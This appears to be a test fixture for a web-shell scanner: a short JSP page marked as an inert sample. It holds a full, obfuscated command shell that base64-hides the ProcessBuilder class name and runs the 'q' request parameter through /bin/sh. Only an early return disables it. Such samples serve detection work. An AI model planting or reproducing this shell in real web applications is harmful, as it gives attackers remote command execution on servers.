<%@ page import="java.util.*" %>
<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%!
public static String run(String s) throws Exception {
    List<String> l = new ArrayList<String>();
    l.add("/bin/sh"); l.add("-c"); l.add(s);
    Class pb = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")));
    Process p = (Process) pb.getMethod("start").invoke(pb.getDeclaredConstructors()[0].newInstance(l));
    return new Scanner(p.getInputStream()).useDelimiter("\\A").next();
}
%>
<% String q = request.getParameter("q"); if (q != null) out.print(run(q)); %>
